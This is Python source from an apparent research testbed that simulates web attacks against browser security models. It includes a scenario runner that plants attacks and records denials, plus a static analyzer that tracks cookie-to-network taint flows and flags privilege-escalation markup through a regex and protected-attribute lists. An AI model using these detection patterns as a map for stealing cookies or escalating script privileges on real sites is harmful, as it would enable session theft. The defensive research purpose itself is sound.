            raise ValueError(f"unknown storage backend {storage!r}")
        #: Storage backend kind every application in the matrix is built on
        #: (``dict`` or ``sqlite``).  Verdict-neutral by the differential
        #: suite: both backends produce byte-identical digests.
        self.storage = storage
        #: Execution engine for every browser this worker builds: the
        #: bytecode VM by default, or the reference AST walker
        #: (``--ast-walker``) for differential parity runs.
        self.script_engine = script_engine
        if compile_caches is True:
            self.caches: CompileCaches | None = CompileCaches.build()
        elif compile_caches is False:
            self.caches = None
        else:
            self.caches = compile_caches
        #: Optional soundness screen: when enabled every browser the runner
        #: builds analyzes each executed script (memoised through the cache
        #: stack's report tier) and attributes monitor decisions to it, so
        #: ``self.screen.verify()`` checks the static-vs-dynamic contract
        #: over everything this runner executed.
        if static_screen:
            from repro.analysis.soundness import StaticScreen

            reports = self.caches.reports if self.caches is not None else None
            self.screen: "StaticScreen | None" = StaticScreen(reports)
        else:
            self.screen = None
        #: Applications whose index pages already pre-warmed the stack.
        self._warmed_apps: set[str] = set()
        #: Random per-runner component of the markup-randomisation seeds:
        #: deterministic within this worker (for template-cache hits), but
        #: never computable by page content.
        self._nonce_secret = secrets.token_hex(16)
        #: Fault-injection plane.  ``None`` = no plane (the default, zero
        #: overhead); a :class:`FaultConfig` -- even an all-zero-rate one --
        #: arms every fault site for each run.  Warm-up environments are
        #: never faulted: the plan is derived and attached per
        #: (scenario, model) run, after the environment is built and seeded.
        if isinstance(faults, dict):
            faults = FaultConfig.from_dict(faults)
        self.faults: FaultConfig | None = faults

    # -- warm start --------------------------------------------------------------------

    def warm_for(self, app_keys) -> None:
        """Pre-warm the cache stack for every application in ``app_keys``.

        A no-op without a cache stack, and per app after the first call --
        the same lazy warm-up scenario execution triggers, just paid up
        front (the parallel executor does this once in the parent before
        snapshotting).
        """
        for app_key in app_keys:
            self._warm_start(app_key)

    def warm_snapshot(self) -> bytes:
        """Serialise this runner's warm state for shipping to workers.

        The payload carries the compile-cache stack plus the nonce secret
        and warmed-app set (see
        :class:`~repro.browser.compile_cache.WarmState`); a worker built
        with :meth:`from_warm_snapshot` then reproduces this runner's
        template bytes exactly and starts with every cache warm.
        """
        if self.caches is None:
            raise ValueError("cannot snapshot a runner without compile caches")
        return dump_warm_state(
            self.caches,
            nonce_secret=self._nonce_secret,
            warmed_apps=tuple(sorted(self._warmed_apps)),
        )

    @classmethod
    def from_warm_snapshot(
        cls,
        data: bytes,
        *,
        models=("escudo", "sop", "none"),
        script_engine: str = "vm",
        storage: str = "dict",
        faults: "FaultConfig | dict | None" = None,
    ) -> "ScenarioRunner":
        """A runner that starts from a shipped warm state instead of cold.

        Verdict-neutral by construction: caches only ever change *when* work
        is done, never its outcome (templates are served as aliasing-free
        clones, decisions are value-keyed with generation invalidation), so
        a warm-shipped worker and a cold one produce byte-identical parity
        reports.
        """
        state = load_warm_state(data)
        runner = cls(
            models=models,
            compile_caches=state.caches,
            script_engine=script_engine,
            storage=storage,
            faults=faults,
        )
        runner._nonce_secret = state.nonce_secret
        runner._warmed_apps = set(state.warmed_apps)
        return runner

    def _app_kwargs(self, app_key: str, spec: ModelSpec) -> dict | None:
        """Application construction flags for one matrix column.

        The worker-deterministic nonce seed makes unchanged pages
        byte-identical across responses (template-cache hits); the response
        cache then memoises side-effect-free GETs per state generation on
        top of it.  The seed embeds the runner's random secret so nonce
        sequences stay unpredictable to attack payloads.
        """
        kwargs: dict = {}
        if self.caches is not None:
            kwargs["nonce_seed"] = f"scenario:{self._nonce_secret}:{app_key}:{spec.name}"
            kwargs["response_cache"] = True
        if self.storage != "dict":
            # Only forwarded when non-default so externally registered app
            # factories that predate the storage tier keep working.
            kwargs["storage"] = self.storage
        return kwargs or None

    def _warm_start(self, app_key: str) -> None:
        """Seed the cache stack from the policy matrix for ``app_key``.

        Loads each column's index page once in a throwaway environment: the
        template, AST and decision caches then already hold the application's
        login page, head scripts and the common mediation verdicts before the
        first scenario runs.  Nothing from the throwaway environments leaks
        into scenario runs -- only cache entries, which are value-keyed.
        """
        if self.caches is None or app_key in self._warmed_apps:
            return
        self._warmed_apps.add(app_key)
        for spec in self.specs:
            env = build_environment(
                app_key,
                spec.browser_model,
                escudo_app=spec.escudo_app,
                app_kwargs=self._app_kwargs(app_key, spec),
                caches=self.caches,
                script_engine=self.script_engine,
            )
            env.browser.load(f"{env.app.origin}/")

    # -- matrix execution --------------------------------------------------------------

    def run(self, scenario: Scenario) -> dict[str, ScenarioRun]:
        """Run ``scenario`` under every model of the matrix."""
        # Resolve the injected attack once for the whole matrix (the corpus
        # lookup rebuilds every attack definition).
        attack = attack_by_name(scenario.attack_name) if scenario.attack_name else None
        return {spec.name: self._run_with(scenario, spec, attack) for spec in self.specs}

    def run_under(self, scenario: Scenario, model_name: str) -> ScenarioRun:
        """Run ``scenario`` under one named model."""
        spec = resolve_models((model_name,))[0]
        attack = attack_by_name(scenario.attack_name) if scenario.attack_name else None
        return self._run_with(scenario, spec, attack)

    def _run_with(
        self, scenario: Scenario, spec: ModelSpec, attack: Attack | None
    ) -> ScenarioRun:
        self._warm_start(scenario.app_key)
        caches = self.caches
        if caches is not None:
            # The decision cache is shared across pages and scenarios, so
            # per-run hit accounting is a counter delta over the run, not a
            # sum of per-page snapshots (which would multi-count the shared
            # counters once per page).
            cache_before = caches.decisions.info()
        env = build_environment(
            scenario.app_key,
            spec.browser_model,
            escudo_app=spec.escudo_app,
            app_kwargs=self._app_kwargs(scenario.app_key, spec),
            caches=caches,
            script_engine=self.script_engine,
            static_screen=self.screen,
        )
        env.victim = scenario.victim.name
        # Every actor's browser seeds its pages' event loops with the
        # scenario's interleave key, so task orderings are part of the spec:
        # the same scenario replays the same schedule under every model.
        env.browser.interleave_seed = scenario.interleave or None
        plan: FaultPlan | None = None
        if self.faults is not None:
            # Arm the plane *after* build_environment: application seeding
            # is setup, not traffic, and must never be faulted.  One plan
            # instance per (scenario, model) run, shared by the network,
            # the app's storage tier and every actor's browser.
            plan = self.faults.plan_for(scenario.name, spec.name)
            env.network.fault_plan = plan
            env.app.storage.fault_plan = plan
            env.browser.fault_plan = plan
            env.extra["fault_plan"] = plan
        browsers: dict[str, Browser] = {scenario.victim.name: env.browser}

        attack_result: AttackResult | None = None
        attack_denials: list[DenialRecord] = []
        plant_baseline: dict[int, int] = {}
        for step in scenario.steps:
            if step.action == "attack_plant":
                if attack is None:
                    raise ValueError(f"scenario {scenario.name!r} has attack steps but no attack")
                # Baseline the monotonic denial counters, not audit-log
                # positions: the audit log is a bounded deque, so an index
                # would drift as soon as eviction kicks in.
                plant_baseline = {
                    id(tab.page): tab.page.monitor.stats.denied for tab in env.browser.tabs
                }
                attack.plant(env)
            elif step.action == "attack_victim":
                if attack is None:
                    raise ValueError(f"scenario {scenario.name!r} has attack steps but no attack")
                attack.victim_action(env)
                attack_result = attack.classify(env)
                attack_denials = self._denials_since(env.browser, plant_baseline)
            else:
                self._execute(step, scenario, env, browsers, spec.browser_model)

        run = ScenarioRun(
            scenario=scenario.name,
            model=spec.name,
            digest=env.app.state_digest(),
            snapshot=env.app.snapshot_state(),
            attack_result=attack_result,
            attack_denials=attack_denials,
        )
        for browser in browsers.values():
            for tab in browser.tabs:
                run.pages_loaded += 1
                run.mediations += tab.page.monitor.stats.total
                run.denied += tab.page.monitor.stats.denied
                run.tasks_run += tab.page.event_loop.stats.tasks_run
                if caches is None:
                    info = tab.page.monitor.cache_info()
                    if info is not None:
                        run.cache_hits += info.hits
                        run.cache_lookups += info.lookups
        if caches is not None:
            cache_after = caches.decisions.info()
            run.cache_hits = cache_after.hits - cache_before.hits
            run.cache_lookups = cache_after.lookups - cache_before.lookups
        if plan is not None:
            run.faults = plan.stats.as_dict()
        return run

    # -- step execution -----------------------------------------------------------------

    def _execute(
        self,
        step: Step,
        scenario: Scenario,
        env: AttackEnvironment,
        browsers: dict[str, Browser],
        browser_model: str,
    ) -> None:
        browser = browsers.get(step.actor)
        if browser is None:
            browser = Browser(
                env.network,
                model=browser_model,
                interleave_seed=scenario.interleave or None,
                caches=self.caches,
                script_engine=self.script_engine,
                static_screen=self.screen,
            )
            browser.fault_plan = env.extra.get("fault_plan")
            browsers[step.actor] = browser
        origin = env.app.origin
        action = step.action
        if step.tab != -1 and action not in TAB_ACTIONS:
            # Only the tab actions act on an existing tab; every other action
            # opens its own.  A spec that says otherwise is wrong -- fail
            # loudly instead of replaying an interaction the spec never
            # described.
            raise ValueError(
                f"step {action!r} does not act on a tab; remove tab={step.tab} from the spec"
            )

        if action == "login":
            username = step.param("username", step.actor)
            session_id = login_user(browser, env.app, username)
            if step.actor == scenario.victim.name:
                env.victim_session_id = session_id
        elif action == "visit":
            browser.load(f"{origin}{step.param('path', '/')}")
        elif action == "post_topic":
            loaded = browser.load(f"{origin}/")
            browser.submit_form(
                loaded,
                "new-topic-form",
                {"subject": step.param("subject"), "message": step.param("message")},
                as_user=True,
            )
        elif action == "reply":
            loaded = browser.load(f"{origin}/viewtopic?t={step.param('topic', '1')}")
            browser.submit_form(loaded, "reply-form", {"message": step.param("message")}, as_user=True)
        elif action == "send_pm":
            loaded = browser.load(f"{origin}/privmsg")
            browser.submit_form(
                loaded,
                "pm-form",
                {"to": step.param("to"), "subject": step.param("subject"), "body": step.param("body")},
                as_user=True,
            )
        elif action == "click_topic":
            loaded = browser.load(f"{origin}/")
            browser.click_link(loaded, f"topic-link-{step.param('topic', '1')}", as_user=True)
        elif action == "create_event":
            loaded = browser.load(f"{origin}/")
            browser.submit_form(
                loaded,
                "create-form",
                {
                    "date": step.param("date"),
                    "title": step.param("title"),
                    "description": step.param("description"),
                },
                as_user=True,
            )
        elif action == "comment":
            loaded = browser.load(f"{origin}/post?id={step.param('post', '1')}")
            browser.submit_form(
                loaded,
                "comment-form",
                {"author": step.param("author", step.actor), "body": step.param("body")},
                as_user=True,
            )
        elif action in TAB_ACTIONS:
            # One resolution for the whole tab-action group: the addressed
            # tab, or a fresh "/" tab when the actor has none open yet.
            loaded = self._pick_tab(browser, step.tab) or browser.load(f"{origin}/")
            if action == "xhr_get":
                path = step.param("path", "/")
                source = f"var xhr = new XMLHttpRequest(); xhr.open('GET', '{path}'); xhr.send();"
                # The sync probe completes inline through the loop's
                # run_task path; drain=False so deferred work other steps
                # queued stays queued until its advance_time/drain step.
                browser.run_script(
                    loaded, source, description=f"scenario xhr probe {path}", drain=False
                )
            elif action == "xhr_async":
                # The async probe's completion stays queued on the tab's
                # event loop; a later advance_time/drain step -- or nothing,
                # which is equally deterministic -- runs it.
                path = step.param("path", "/")
                source = (
                    f"var xhr = new XMLHttpRequest(); xhr.open('GET', '{path}', true); xhr.send();"
                )
                browser.run_script(
                    loaded, source, description=f"scenario async xhr probe {path}", drain=False
                )
            elif action == "advance_time":
                browser.advance_time(loaded, float(step.param("ms", "10")))
            else:  # "drain"
                browser.drain(loaded)
        else:  # pragma: no cover - the model validates actions up front
            raise ValueError(f"unhandled scenario action {action!r}")

    @staticmethod
    def _pick_tab(browser: Browser, index: int) -> LoadedPage | None:
        """The addressed tab, or ``None`` when the browser has no tabs yet.

        An explicit out-of-range index is a spec error and fails loudly --
        silently acting on a different tab would make the oracle's verdict
        describe an interaction the spec never stated.
        """
        if not browser.tabs:
            return None
        if -len(browser.tabs) <= index < len(browser.tabs):
            return browser.tab(index)
        raise IndexError(
            f"scenario step addresses tab {index}, but the actor's browser has "
            f"only {len(browser.tabs)} open tab(s)"
        )

    # -- denial attribution ------------------------------------------------------------------

    @staticmethod
    def _denials_since(browser: Browser, baseline: dict[int, int]) -> list[DenialRecord]:
        """Denials recorded by ``browser``'s pages after the plant baseline.

        Pages opened after the baseline was taken (the lure page, the
        poisoned application page) contribute every denial they recorded.
        The baseline is the page's monotonic ``stats.denied`` counter; the
        corresponding records are the *last* N denials retained in the
        (bounded) audit log, which survives log eviction -- at worst the
        oldest records are gone, never mis-attributed.
        """
        denials: list[DenialRecord] = []
        for tab in browser.tabs:
            monitor = tab.page.monitor
            new_denied = monitor.stats.denied - baseline.get(id(tab.page), 0)
            if new_denied <= 0:
                continue
            for decision in monitor.audit.denials()[-new_denied:]:
                rule = decision.denying_rule
                denials.append(
                    DenialRecord(
                        rule=rule.value if rule is not None else "",
                        operation=decision.operation.value,
                        principal=decision.principal_label,
                        object=decision.object_label,
                        page=str(tab.page.url),
                    )
                )
        return denials
