"""MiniScript: the reproduction's JavaScript-like scripting substrate."""

from .analysis import (
    ALL_SINKS,
    ScriptReport,
    analyze_program,
    analyze_source,
    script_digest,
)
from .cache import (
    DEFAULT_AST_CACHE_SIZE,
    DEFAULT_CODE_CACHE_SIZE,
    DEFAULT_REPORT_CACHE_SIZE,
    ScriptAstCache,
    ScriptCodeCache,
    ScriptReportCache,
)
from .compiler import CodeObject, compile_function, compile_program, fold_program
from .errors import BudgetExceeded, LexError, ParseError, RuntimeScriptError, ScriptError
from .interpreter import (
    Environment,
    ExecutionResult,
    HostObject,
    Interpreter,
    NativeConstructor,
    NativeFunction,
    ScriptFunction,
)
from .lexer import ScriptToken, TokenType, tokenize_script
from .parser import parse_script
from .vm import CompiledFunction, VirtualMachine

__all__ = [
    "ALL_SINKS",
    "BudgetExceeded",
    "CodeObject",
    "CompiledFunction",
    "DEFAULT_AST_CACHE_SIZE",
    "DEFAULT_CODE_CACHE_SIZE",
    "DEFAULT_REPORT_CACHE_SIZE",
    "Environment",
    "ExecutionResult",
    "HostObject",
    "Interpreter",
    "LexError",
    "NativeConstructor",
    "NativeFunction",
    "ParseError",
    "RuntimeScriptError",
    "ScriptAstCache",
    "ScriptCodeCache",
    "ScriptError",
    "ScriptFunction",
    "ScriptReport",
    "ScriptReportCache",
    "ScriptToken",
    "TokenType",
    "VirtualMachine",
    "analyze_program",
    "analyze_source",
    "compile_function",
    "compile_program",
    "fold_program",
    "parse_script",
    "script_digest",
    "tokenize_script",
]
