"""MiniScript: the reproduction's JavaScript-like scripting substrate."""

from .cache import DEFAULT_AST_CACHE_SIZE, ScriptAstCache
from .errors import BudgetExceeded, LexError, ParseError, RuntimeScriptError, ScriptError
from .interpreter import (
    Environment,
    ExecutionResult,
    HostObject,
    Interpreter,
    NativeConstructor,
    NativeFunction,
    ScriptFunction,
)
from .lexer import ScriptToken, TokenType, tokenize_script
from .parser import parse_script

__all__ = [
    "BudgetExceeded",
    "DEFAULT_AST_CACHE_SIZE",
    "Environment",
    "ExecutionResult",
    "HostObject",
    "Interpreter",
    "LexError",
    "NativeConstructor",
    "NativeFunction",
    "ParseError",
    "RuntimeScriptError",
    "ScriptAstCache",
    "ScriptError",
    "ScriptFunction",
    "ScriptToken",
    "TokenType",
    "parse_script",
    "tokenize_script",
]
