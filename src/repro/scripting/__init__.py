"""MiniScript: the reproduction's JavaScript-like scripting substrate."""

from .errors import BudgetExceeded, LexError, ParseError, RuntimeScriptError, ScriptError
from .interpreter import (
    Environment,
    ExecutionResult,
    HostObject,
    Interpreter,
    NativeConstructor,
    NativeFunction,
    ScriptFunction,
)
from .lexer import ScriptToken, TokenType, tokenize_script
from .parser import parse_script

__all__ = [
    "BudgetExceeded",
    "Environment",
    "ExecutionResult",
    "HostObject",
    "Interpreter",
    "LexError",
    "NativeConstructor",
    "NativeFunction",
    "ParseError",
    "RuntimeScriptError",
    "ScriptError",
    "ScriptFunction",
    "ScriptToken",
    "TokenType",
    "parse_script",
    "tokenize_script",
]
