"""Static mediation-flow analysis over MiniScript programs.

The reference monitor proves *dynamically*, per executed path, that every
script access to a protected object is mediated.  This module proves a
static **over-approximation** of the same property: given a script's AST it
computes every mediated *sink category* the script could ever trigger --
without executing it -- plus the taint flows from untrusted sources into
those sinks.  The soundness contract (checked end-to-end by
:mod:`repro.analysis.soundness`) is::

    dynamically audited access categories  ⊆  statically predicted sinks

for every script the scenario corpus executes, under both engines.  The
analysis errs exclusively toward over-prediction: an access the analyzer
cannot rule out is predicted (a reported false positive), while a missed
access (false negative) is a mediation-bypass bug and fails the suite.

Pipeline, per program:

1. function discovery -- every ``function`` declaration/expression gets an
   id; declarations are *reachable* only if their name is referenced from
   reachable code (fixpoint), which is sound because MiniScript has no
   ``eval`` and no computed access to the script environment;
2. per-function :class:`ControlFlowGraph` construction (basic blocks with
   explicit successor edges; ``break``/``continue``/``return`` terminate
   blocks, constant-test branches prune never-taken edges);
3. reaching-definition tag propagation: a worklist dataflow over each CFG
   whose abstract state maps variables to finite *tag sets* (object kinds
   like ``obj:element``, callable kinds like ``call:elem-write``, and taint
   marks like ``cookie``).  Join is pointwise union, the lattice is finite,
   so the fixpoint terminates;
4. an interprocedural outer fixpoint: call sites merge argument tags into
   callee parameter slots, returns feed back summaries, and values escaping
   into host callbacks (timers, listeners, ``xhr.onload``) mark their
   functions as event handlers (parameters gain the ``event`` taint).

The emitted :class:`ScriptReport` is immutable and process-portable, which
lets :class:`repro.scripting.cache.ScriptReportCache` memoise it as a third
compile-cache tier next to the AST and bytecode caches.
"""

from __future__ import annotations

import hashlib
import re
from dataclasses import dataclass, field

from . import ast_nodes as ast
from .errors import ScriptError
from .parser import parse_script

# -- sink categories (what the reference monitor can record) ---------------------------

#: Mediated element read (``innerHTML`` / ``getAttribute`` / ...).
DOM_READ = "dom_read"
#: Mediated element write (``innerHTML =`` / ``setAttribute`` / ``appendChild`` / ...).
DOM_WRITE = "dom_write"
#: ``use`` check on the DOM API native object (runs before element ops).
DOM_USE = "dom_use"
#: ``document.cookie`` read (one decision per readable cookie).
COOKIE_READ = "cookie_read"
#: ``document.cookie`` assignment.
COOKIE_WRITE = "cookie_write"
#: Cookie *use* sweep when a mediated request attaches cookies.
COOKIE_USE = "cookie_use"
#: ``use`` check on the XMLHttpRequest native object at completion time.
XHR_USE = "xhr_use"

#: Every category the monitor can attribute to a script.
ALL_SINKS = frozenset(
    {DOM_READ, DOM_WRITE, DOM_USE, COOKIE_READ, COOKIE_WRITE, COOKIE_USE, XHR_USE}
)

# -- taint sources ----------------------------------------------------------------------

#: Value derived from ``document.cookie``.
SOURCE_COOKIE = "cookie"
#: Value derived from the DOM (lookups, attribute/text reads).
SOURCE_DOM = "dom"
#: Value derived from an XHR response (``responseText`` / ``status`` / headers).
SOURCE_XHR = "xhr_response"
#: Value derived from an event-handler parameter or the ``event`` global.
SOURCE_EVENT = "event"

#: Every taint mark the analysis tracks.
TAINTS = frozenset({SOURCE_COOKIE, SOURCE_DOM, SOURCE_XHR, SOURCE_EVENT})

# -- abstract object / callable kinds ---------------------------------------------------

_DOC = "obj:document"
_WIN = "obj:window"
_ELEM = "obj:element"
_XHR = "obj:xhr"
_LOC = "obj:location"
_CONSOLE = "obj:console"
_UNKNOWN = "obj:unknown"
_CTOR_XHR = "ctor:xhr"

_CALL_ELEM_READ = "call:elem-read"      # bound getAttribute
_CALL_ELEM_WRITE = "call:elem-write"    # setAttribute/appendChild/removeChild/addEventListener
_CALL_LOOKUP = "call:lookup"            # getElementById / querySelector / createElement / ...
_CALL_DOC_WRITE = "call:doc-write"      # document.write
_CALL_XHR_ARM = "call:xhr-arm"          # xhr.open / xhr.setRequestHeader
_CALL_XHR_SEND = "call:xhr-send"        # xhr.send
_CALL_XHR_READ = "call:xhr-read"        # xhr.getResponseHeader
_CALL_TIMER = "call:timer"              # setTimeout

_FUNC_PREFIX = "func:"

# -- escalation markers (syntactic, advisory) -------------------------------------------

#: ESCUDO configuration attributes of an AC tag; a script rewriting one is
#: attempting the Section-5 self-escalation (tamper protection denies it).
PROTECTED_ATTRIBUTES = frozenset({"ring", "r", "w", "x", "acl", "nonce"})
#: ``setAttribute('<protected attribute>', ...)`` appears in the program.
MARKER_TAMPER = "tamper-attempt"
#: A string literal embeds markup claiming its own ring assignment -- the
#: mint-a-privileged-child vector (``innerHTML = '<div ring="0" ...>'``).
MARKER_PRIVILEGED_MARKUP = "privileged-markup"

_PRIVILEGED_MARKUP_RE = re.compile(r"\bring\s*=")

# -- host member tables (mirrors repro.browser.script_runtime bindings) -----------------

_ELEM_READ_PROPS = frozenset({"innerHTML", "textContent", "innerText", "id", "value"})
_ELEM_WRITE_PROPS = frozenset({"innerHTML", "textContent", "innerText", "value", "id", "className"})
_ELEM_WRITE_METHODS = frozenset({"setAttribute", "appendChild", "removeChild", "addEventListener"})
_ELEM_LOOKUP_METHODS = frozenset({"querySelector", "querySelectorAll"})
_DOC_LOOKUP_METHODS = frozenset(
    {"getElementById", "querySelector", "querySelectorAll", "getElementsByTagName", "createElement"}
)
_XHR_TAINT_PROPS = frozenset({"responseText", "status", "readyState"})
_XHR_ARM_METHODS = frozenset({"open", "setRequestHeader"})

#: Abstract values of the globals every principal environment installs.
_GLOBAL_TAGS: dict[str, frozenset[str]] = {
    "document": frozenset({_DOC}),
    "window": frozenset({_WIN}),
    "location": frozenset({_LOC}),
    "console": frozenset({_CONSOLE}),
    "alert": frozenset(),
    "setTimeout": frozenset({_CALL_TIMER}),
    "clearTimeout": frozenset(),
    "XMLHttpRequest": frozenset({_CTOR_XHR}),
    # Bound by execute_handler(): a plain payload dict derived from the event.
    "event": frozenset({SOURCE_EVENT}),
}


def script_digest(source: str) -> str:
    """SHA-256 digest of ``source`` -- the same key every compile cache uses."""
    return hashlib.sha256(source.encode("utf-8")).hexdigest()


# -- the report -------------------------------------------------------------------------


@dataclass(frozen=True)
class ScriptReport:
    """Everything the static pass proves about one script."""

    #: Source digest (the report/AST/code cache key).
    digest: str
    #: Over-approximated set of mediated sink categories (:data:`ALL_SINKS`).
    sinks: frozenset[str]
    #: ``(source, sink)`` taint flows into the active sinks.
    flows: frozenset[tuple[str, str]]
    #: Lines of statements that can never execute (post-terminator code,
    #: never-referenced function declarations).
    dead_statements: tuple[int, ...]
    #: Lines of branches pruned by a constant test.
    unreachable_branches: tuple[int, ...]
    #: AST-node count of the reachable region with every loop body counted
    #: once -- an upper bound on loop-free execution steps.
    step_bound: int
    #: Reachable function bodies analysed (declarations + expressions).
    functions: int
    #: Syntactic escalation markers (:data:`MARKER_TAMPER`,
    #: :data:`MARKER_PRIVILEGED_MARKUP`).  Advisory signature bits with no
    #: soundness obligation: the runtime records a denied tamper as a plain
    #: DOM write, but the markers separate privilege-escalation payloads
    #: from benign DOM writers the taint lattice alone cannot tell apart.
    markers: frozenset[str] = frozenset()
    #: Front-end failure, when the source does not parse (such a script
    #: executes nothing, so its sink set is empty by construction).
    error: str | None = None

    def as_dict(self) -> dict[str, object]:
        """JSON-friendly form (sorted, for deterministic reports)."""
        return {
            "digest": self.digest,
            "sinks": sorted(self.sinks),
            "flows": sorted(list(pair) for pair in self.flows),
            "dead_statements": list(self.dead_statements),
            "unreachable_branches": list(self.unreachable_branches),
            "step_bound": self.step_bound,
            "functions": self.functions,
            "markers": sorted(self.markers),
            "error": self.error,
        }


# -- control-flow graphs ----------------------------------------------------------------


@dataclass
class BasicBlock:
    """A straight-line run of statements with explicit successor edges."""

    index: int
    statements: list = field(default_factory=list)
    successors: list[int] = field(default_factory=list)


class ControlFlowGraph:
    """Per-function CFG: blocks, an entry block and a distinguished exit."""

    def __init__(self) -> None:
        self.blocks: list[BasicBlock] = [BasicBlock(0)]
        self.entry = 0
        self.exit = self.new_block()

    def new_block(self) -> int:
        block = BasicBlock(len(self.blocks))
        self.blocks.append(block)
        return block.index

    def add_edge(self, src: int, dst: int) -> None:
        successors = self.blocks[src].successors
        if dst not in successors:
            successors.append(dst)

    def predecessors(self) -> dict[int, list[int]]:
        preds: dict[int, list[int]] = {block.index: [] for block in self.blocks}
        for block in self.blocks:
            for succ in block.successors:
                preds[succ].append(block.index)
        return preds


def _constant_truth(node) -> bool | None:
    """Truthiness of a literal test, or ``None`` when not statically known."""
    if isinstance(node, ast.BooleanLiteral):
        return node.value
    if isinstance(node, ast.NumberLiteral):
        return bool(node.value)
    if isinstance(node, ast.StringLiteral):
        return bool(node.value)
    if isinstance(node, ast.NullLiteral):
        return False
    return None


class _CfgBuilder:
    """Lowers a statement list into a :class:`ControlFlowGraph`.

    ``dead`` and ``unreachable`` collect diagnostic line numbers as a side
    effect: statements following a terminator in the same list, and branch
    arms pruned by constant tests.
    """

    def __init__(self, dead: set[int], unreachable: set[int]) -> None:
        self.dead = dead
        self.unreachable = unreachable
        self.cfg = ControlFlowGraph()
        self.current = self.cfg.entry
        #: (continue target, break target) per enclosing loop.
        self.loops: list[tuple[int, int]] = []

    def build(self, statements: list) -> ControlFlowGraph:
        terminated = self._lay_out(statements)
        if not terminated:
            self.cfg.add_edge(self.current, self.cfg.exit)
        return self.cfg

    # -- layout ------------------------------------------------------------------------

    def _lay_out(self, statements: list) -> bool:
        """Emit ``statements`` into the running block; True if control left."""
        for position, statement in enumerate(statements):
            if self._emit(statement):
                self._mark_dead(statements[position + 1:])
                return True
        return False

    def _emit(self, node) -> bool:
        """Emit one statement; True when it terminates the current block."""
        if isinstance(node, ast.Block):
            return self._lay_out(node.statements)
        if isinstance(node, ast.If):
            self._emit_if(node)
            return False
        if isinstance(node, (ast.While, ast.For)):
            self._emit_loop(node)
            return False
        if isinstance(node, ast.Return):
            self.cfg.blocks[self.current].statements.append(node)
            self.cfg.add_edge(self.current, self.cfg.exit)
            self.current = self.cfg.new_block()
            return True
        if isinstance(node, (ast.Break, ast.Continue)):
            if self.loops:
                header, exit_block = self.loops[-1]
                target = exit_block if isinstance(node, ast.Break) else header
                self.cfg.add_edge(self.current, target)
            self.current = self.cfg.new_block()
            return True
        self.cfg.blocks[self.current].statements.append(node)
        return False

    def _emit_if(self, node: ast.If) -> None:
        self.cfg.blocks[self.current].statements.append(("test", node.test))
        truth = _constant_truth(node.test)
        before = self.current
        join = self.cfg.new_block()

        if truth is False:
            self._mark_unreachable(node.consequent)
        else:
            self.current = self.cfg.new_block()
            self.cfg.add_edge(before, self.current)
            if not self._branch(node.consequent):
                self.cfg.add_edge(self.current, join)

        if node.alternate is None:
            if truth is not True:
                self.cfg.add_edge(before, join)
        elif truth is True:
            # Only the (unconditionally taken) consequent feeds the join.
            self._mark_unreachable(node.alternate)
        else:
            self.current = self.cfg.new_block()
            self.cfg.add_edge(before, self.current)
            if not self._branch(node.alternate):
                self.cfg.add_edge(self.current, join)
        self.current = join

    def _branch(self, statement) -> bool:
        body = statement.statements if isinstance(statement, ast.Block) else [statement]
        return self._lay_out(body)

    def _emit_loop(self, node) -> None:
        is_for = isinstance(node, ast.For)
        if is_for and node.init is not None:
            self.cfg.blocks[self.current].statements.append(node.init)
        header = self.cfg.new_block()
        self.cfg.add_edge(self.current, header)
        test = node.test
        if test is not None:
            self.cfg.blocks[header].statements.append(("test", test))
        exit_block = self.cfg.new_block()
        truth = _constant_truth(test) if test is not None else True

        if truth is False:
            self._mark_unreachable(node.body)
            self.cfg.add_edge(header, exit_block)
            self.current = exit_block
            return

        if truth is None:
            self.cfg.add_edge(header, exit_block)

        # ``continue`` in a for-loop must still run the update expression;
        # give it its own block between body and header.
        continue_target = header
        update_block = None
        if is_for and node.update is not None:
            update_block = self.cfg.new_block()
            self.cfg.blocks[update_block].statements.append(node.update)
            self.cfg.add_edge(update_block, header)
            continue_target = update_block

        self.loops.append((continue_target, exit_block))
        self.current = self.cfg.new_block()
        self.cfg.add_edge(header, self.current)
        if not self._branch(node.body):
            self.cfg.add_edge(self.current, continue_target)
        self.loops.pop()
        self.current = exit_block

    # -- diagnostics -------------------------------------------------------------------

    def _mark_dead(self, statements: list) -> None:
        for statement in statements:
            line = getattr(statement, "line", 0)
            if line:
                self.dead.add(line)

    def _mark_unreachable(self, statement) -> None:
        line = getattr(statement, "line", 0)
        if line:
            self.unreachable.add(line)


# -- function discovery -----------------------------------------------------------------


class _FunctionInfo:
    """Interprocedural summary cell for one function."""

    __slots__ = ("fid", "name", "parameters", "body", "line", "declaration",
                 "param_tags", "return_tags", "handler", "reachable", "cfg")

    def __init__(self, fid, name, parameters, body, line, *, declaration):
        self.fid = fid
        self.name = name
        self.parameters = parameters
        self.body = body
        self.line = line
        self.declaration = declaration
        self.param_tags: list[set[str]] = [set() for _ in parameters]
        self.return_tags: set[str] = set()
        self.handler = False
        self.reachable = False
        self.cfg: ControlFlowGraph | None = None


def _walk(node):
    """Yield ``node`` and every AST node reachable below it."""
    stack = [node]
    while stack:
        current = stack.pop()
        if isinstance(current, ast.Node):
            yield current
            for attr in vars(current).values():
                if isinstance(current, (ast.FunctionDeclaration, ast.FunctionExpression)) and attr is getattr(current, "body", None):
                    continue
                stack.append(attr)
        elif isinstance(current, list):
            stack.extend(current)
        elif isinstance(current, tuple):
            stack.extend(current)


def _walk_all(node):
    """Like :func:`_walk` but descends into function bodies too."""
    stack = [node]
    while stack:
        current = stack.pop()
        if isinstance(current, ast.Node):
            yield current
            for attr in vars(current).values():
                stack.append(attr)
        elif isinstance(current, (list, tuple)):
            stack.extend(current)


# -- the analyzer -----------------------------------------------------------------------


class ScriptAnalyzer:
    """One-shot analyzer for a parsed :class:`~repro.scripting.ast_nodes.Program`."""

    def __init__(self, program: ast.Program) -> None:
        self.program = program
        self.sinks: set[str] = set()
        self.flows: set[tuple[str, str]] = set()
        self.dead: set[int] = set()
        self.unreachable: set[int] = set()
        #: id(node) -> _FunctionInfo for every function in the program.
        self._functions: dict[int, _FunctionInfo] = {}
        #: Declaration name -> info (later declarations shadow earlier ones,
        #: matching the interpreter's sequential ``define``).
        self._declared: dict[str, _FunctionInfo] = {}
        #: Flow-insensitive union of every assignment, program-wide: the
        #: sound stand-in for closure capture across function boundaries.
        self._ambient: dict[str, set[str]] = {}
        #: Taints ever passed into xhr.open()/setRequestHeader() -- joined
        #: into the flows recorded at any send() (aliased sends included).
        self._xhr_taint: set[str] = set()
        self._changed = False

    # -- entry point -------------------------------------------------------------------

    def analyze(self, *, digest: str = "") -> ScriptReport:
        self._discover_functions()
        self._compute_reachability()

